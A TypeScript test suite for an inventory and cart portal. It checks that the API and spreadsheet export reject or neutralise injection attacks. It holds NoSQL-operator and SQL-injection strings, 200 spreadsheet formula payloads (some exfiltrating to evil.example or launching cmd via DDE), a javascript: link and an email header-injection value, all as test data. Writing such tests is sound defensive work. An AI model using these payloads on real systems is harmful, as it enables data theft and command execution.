import { afterAll, beforeAll, describe, expect, it } from 'bun:test'
import { Workbook } from 'exceljs'
import { toWorkbook } from '#client/portal/lists/download.ts'
import { codeLetter } from '#src/mail/letters.ts'
import type { StockItem } from '#src/contract/records.ts'
import { expectProblem } from '#tests/support/expect-problem.ts'
import { type Member, type Portal, startPortal } from '#tests/support/portal.ts'
import { openStockRoom, type StockRoom } from '#tests/support/stock.ts'
import { unzip } from '#tests/support/unzip.ts'

let portal: Portal
let admin: Member
let club: Member
let room: StockRoom
let item: StockItem

beforeAll(async () => {
  portal = await startPortal({ config: { rateLimits: false } })
  admin = await portal.createAdmin()
  club = await portal.createClub()
  room = openStockRoom(portal, admin)
  item = await room.addItem()
  await room.orderLine(club, item)
})
afterAll(() => portal.close())

const OPERATORS: unknown[] = [
  { $ne: null },
  { $gt: '' },
  { $in: ['', 'user', 'bosslevel'] },
  { $regex: '.*' },
  { $where: 'sleep(5000)' },
  { $exists: true },
  { $expr: { $eq: [1, 1] } },
  { $function: { body: 'return true', args: [], lang: 'js' } },
  [{ $ne: null }],
  { toString: { $ne: 1 } },
]
const WORDS = [
  '$ne',
  '{"$ne":null}',
  "' || '1'=='1",
  '1; sleep(5000)',
  "'; DROP TABLE items; --",
  '" OR 1=1 --',
  '$where',
  '.*',
  '%',
  '_',
  '*',
]

describe('operators of a database', () => {
  const fieldsOf = (): [method: string, path: string, body: Record<string, unknown>][] => [
    ['POST', '/users/login', { email: 'a@b.example', password: 'x' }],
    ['POST', '/users/request-code', { email: 'a@b.example' }],
    ['POST', '/users/request-code-pass-reset', { email: 'a@b.example' }],
    [
      'PUT',
      '/users/reset-password',
      { email: 'a@b.example', newPassword: 'x', verificationCode: '1' },
    ],
    [
      'POST',
      '/users/register',
      {
        cordName: 'A',
        clubName: 'B',
        mobile: '5550100',
        email: 'a@b.example',
        password: 'x',
        verificationCode: '1',
      },
    ],
    ['POST', '/inventorys/inventory', { itemName: 'Ink', itemQuantity: 1, itemStatus: 'enabled' }],
    [
      'PATCH',
      `/inventorys/inventory/${item._id}`,
      { rev: 1, itemName: 'Ink', itemQuantity: 1, itemStatus: 'enabled' },
    ],
    ['PUT', '/cart/confirm-disabled', { isConfirmDisabled: false }],
    [
      'POST',
      '/cart/add-custom-item',
      { userId: club.id, itemName: 'Felt', ordered_quantity: 1, link: '' },
    ],
  ]

  it('in place of any field are refused, and nothing is written', async () => {
    const before = await room.linesOf(club)
    for (const [method, path, body] of fieldsOf())
      for (const field of Object.keys(body))
        for (const operator of OPERATORS) {
          const answer = await portal.request(method, path, {
            token: admin.token,
            body: { ...body, [field]: operator },
          })
          expect(expectProblem(answer, 'invalid').errors?.[0]?.path).toStartWith(field)
        }
    for (const operator of OPERATORS) {
      expectProblem(await room.order(club, operator), 'invalid')
      expectProblem(await room.order(club, [{ item_id: operator, ordered_quantity: 1 }]), 'invalid')
      const note = [{ _id: item._id, itemRemark: operator }]
      const path = '/inventorys/update-inventory-items'
      expectProblem(
        await portal.request('PUT', path, { token: admin.token, body: note }),
        'invalid',
      )
      const changes = await portal.request('PUT', '/cart/update-multiple-cart-items', {
        token: admin.token,
        body: { items: [{ _id: operator, remarks: 'x' }] },
      })
      expectProblem(changes, 'invalid')
    }
    expect(await room.linesOf(club)).toEqual(before)
  })

  it('in a path or a query string match no row and delete none', async () => {
    const carts = await room.listCarts()
    for (const word of WORDS.map(encodeURIComponent)) {
      for (const path of [`/cart/cart-items-user/${word}`, `/cart/cart-items-final/${word}`])
        expectProblem(await portal.request('GET', path, { token: admin.token }), 'not_found')
      for (const path of [
        `/cart/remove-cart/${word}`,
        `/cart/remove-item/${carts[0]?.cart_id}/${word}`,
      ])
        expectProblem(await portal.request('DELETE', path, { token: admin.token }), 'not_found')
      const query = `?email[$ne]=&userId[$ne]=${word}&_id=${word}`
      const { body } = await portal.request<unknown[]>(
        'GET',
        `/inventorys/inventory/user${query}`,
        {
          token: club.token,
        },
      )
      expect(body).toHaveLength(1)
    }
    expect(await room.listCarts()).toEqual(carts)
  })
})

describe('formulas in a spreadsheet', () => {
  const STARTS = [
    '=',
    '+',
    '-',
    '@',
    '\t=',
    '\r=',
    '\n=',
    ' =',
    '＝',
    '＋',
    '"=',
    "'=",
    ';=',
    ',=',
    '%0A=',
    '=\u200b',
    '\ufeff=',
    '==',
    '=-',
    '@@',
  ]
  const CALLS = [
    '1+1',
    'HYPERLINK("https://evil.example?"&A1,"x")',
    'WEBSERVICE("https://evil.example")',
    "cmd|' /C calc'!A0",
    'IMPORTXML("https://evil.example","//a")',
    'DDE("cmd";"/C calc";"x")',
    'SUM(1)*cmd|x',
    'INDIRECT("A1")',
    'IMAGE("https://evil.example")',
    'EXEC("calc")',
  ]
  const PAYLOADS = STARTS.flatMap((start) => CALLS.map((call) => start + call))

  it(`none of ${PAYLOADS.length} payloads is written as a formula; another reader finds text, and numbers stay numbers`, async () => {
    expect(PAYLOADS).toHaveLength(200)
    const { buffer } = await toWorkbook({
      file: 'order.xlsx',
      sheet: 'Order',
      columns: ['Item', 'Given'],
      rows: PAYLOADS.map((payload, index) => [payload, -1 - index]),
    })
    const parts = [...unzip(buffer).values()].join('')
    expect(parts).not.toMatch(/<f[\s>]/)
    expect(parts).not.toContain('externalLink')
    const workbook = new Workbook()
    await workbook.xlsx.load(buffer)
    const sheet = workbook.getWorksheet('Order')
    for (const [index, payload] of PAYLOADS.entries()) {
      const [text, count] = [sheet?.getCell(index + 2, 1), sheet?.getCell(index + 2, 2)]
      expect(typeof text?.value).toBe('string')
      expect(String(text?.value).replaceAll(/\s/g, '')).toBe(payload.replaceAll(/\s/g, ''))
      expect(count?.value).toBe(-1 - index)
    }
  })
})

describe('links', () => {
  it.each(['javascript:alert(1)', 'https://u:p@shop.example/'])(
    '%j is never stored',
    async (link) => {
      const row = { itemName: Bun.randomUUIDv7(), ordered_quantity: 1, link }
      expectProblem(await room.order(club, [row]), 'invalid')
      const body = { userId: club.id, ...row }
      const answer = await portal.request('POST', '/cart/add-custom-item', {
        token: club.token,
        body,
      })
      expectProblem(answer, 'invalid')
      expect(
        (await room.linesOf(club)).filter(({ itemName }) => itemName === row.itemName),
      ).toEqual([])
    },
  )
})

describe('mail headers', () => {
  it('an address with a second header gets no mail', async () => {
    const body = { email: 'a@b.example\r\nBcc: victim@c.example' }
    for (const path of ['/users/request-code', '/users/request-code-pass-reset'])
      expectProblem(await portal.request('POST', path, { body }), 'invalid')
  })

  it('a letter has one recipient and one subject of a single line', () => {
    const { to, subject } = codeLetter('a@b.example', 'register', '482916')
    expect([to, subject].join(' ')).not.toMatch(/[\r\n]/)
  })
})
